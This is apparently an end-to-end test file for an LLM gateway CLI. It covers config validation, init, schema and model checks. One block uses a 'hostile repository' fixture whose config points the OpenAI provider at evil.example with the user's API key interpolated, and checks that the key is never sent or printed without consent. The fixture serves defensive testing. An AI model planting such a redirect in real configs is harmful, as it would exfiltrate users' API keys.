import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { gateway, ROOT, type Finished } from './run-gateway.ts'

let cwd = ''
beforeEach(() => {
  cwd = realpathSync(mkdtempSync(join(tmpdir(), 'gateway-config-e2e-')))
  mkdirSync(join(cwd, 'packages', 'app'), { recursive: true })
  mkdirSync(join(cwd, '.git'))
})
afterEach(() => rmSync(cwd, { recursive: true, force: true }))

const run = (parameters: readonly string[], env: Readonly<Record<string, string>> = {}): Promise<Finished> =>
  gateway(parameters, {
    cwd: join(cwd, 'packages', 'app'),
    env: { GATEWAY_SETTINGS_DIR: join(cwd, 'settings'), ...env },
  })
const write = (text: string): void => writeFileSync(join(cwd, 'gateway.yaml'), text)

describe('gateway config, as a program', () => {
  it('finds the config of the repository from a folder below and exits 0 when it is valid', async () => {
    write('routing: { default_policy: cheapest }\n')
    const { code, stdout } = await run(['config', 'validate'])
    expect(stdout).toMatch(/^\.\.\/\.\.\/gateway\.yaml is valid/)
    expect(code).toBe(0)
  })

  it('exits 2 with every mistake on stderr, the summary last, and nothing on stdout', async () => {
    write('routing: { default_polcy: x }\nfailover: { deadline: 60 }\n')
    const { code, stdout, stderr } = await run(['config', 'validate'])
    expect(code).toBe(2)
    expect(stdout).toBe('')
    expect(stderr).toContain('--> ../../gateway.yaml:1:12')
    expect(stderr).toContain('--> ../../gateway.yaml:2:23')
    expect(stderr.trimEnd().split('\n').slice(-2)).toEqual([
      'error config_invalid  ../../gateway.yaml has 2 mistakes',
      '  fix: correct the file, then run `gateway config validate`',
    ])
  })

  it('makes a config, checks it and prints it', async () => {
    const config = join(cwd, 'new.yaml')
    expect(await run(['-c', config, 'config', 'init'])).toMatchObject({ code: 0 })
    expect(await run(['-c', config, 'config', 'init'])).toMatchObject({ code: 2, stdout: '' })
    expect(await run(['config', 'validate'], { GATEWAY_CONFIG: config })).toMatchObject({ code: 0 })
    const { stdout } = await run(['-c', config, 'config', 'print', '--origins', '--set', 'failover.deadline=9s'])
    expect(stdout).toMatch(/^failover\.deadline = "9s" +--set$/m)
    expect(stdout).toMatch(/^routing\.default_policy = "balanced" +\.\.\/\.\.\/new\.yaml:\d+$/m)
  })

  it('prints the schema that ships with the package', async () => {
    const { stdout } = await run(['config', 'schema'])
    expect(JSON.parse(stdout)).toMatchObject({ title: 'gateway config', additionalProperties: false })
  })
})

describe('a hostile repository, as a program', () => {
  const hostile = `providers:
  openai: { kind: openai, base_url: https://evil.example/v1, api_keys: ["\${OPENAI_API_KEY}"] }
models: { gpt-5.4: { provider: openai } }
`

  const env = {
    OPENAI_API_KEY: 'super-secret-value',
    NODE_OPTIONS: `--import ${join(ROOT, 'test', 'e2e', 'no-network.mjs')}`,
  }

  it.each([
    [['route', 'hello', '--json'], 0],
    [['models', 'list'], 0],
    [['config', 'print', '--origins'], 0],
    [['dev', '--port', '0'], 2],
  ])('gets nothing from %j: no connection, no key', async (parameters, expected) => {
    write(hostile)
    const { code, stdout, stderr } = await run(parameters, env)
    expect(code).toBe(expected)
    expect(`${stdout}${stderr}`).not.toContain('super-secret-value')
  })

  it('is shown what it would do, without consent nothing is remembered, and the key is never printed', async () => {
    write(hostile)
    const asked = await run(['trust'], env)
    expect(asked.code).toBe(2)
    expect(asked.stdout).toContain('${OPENAI_API_KEY} would be sent to evil.example, which is not api.openai.com')
    const again = await run(['trust'], env)
    expect(again.code).toBe(2)
    expect(await run(['trust', '--yes'], env)).toMatchObject({ code: 0 })
    expect(await run(['trust'], env)).toMatchObject({ code: 0 })
    expect(`${asked.stdout}${asked.stderr}${again.stdout}`).not.toContain('super-secret-value')
  })
})

describe('gateway models, as a program', () => {
  it('exits 1 when a model in use is retired, and 0 otherwise', async () => {
    write('models: { gemini-1.5-pro: {} }\n')
    expect(await run(['models', 'check'])).toMatchObject({ code: 1 })
    write('models: { gpt-5.4: {} }\n')
    expect(await run(['models', 'check'])).toMatchObject({ code: 0 })
  })

  it('exits 2 and changes nothing when a price list is not plausible', async () => {
    const { code, stderr } = await run(['models', 'sync', '--from', 'gone.json'])
    expect(code).toBe(2)
    expect(stderr).toContain('error catalog_invalid')
  })
})
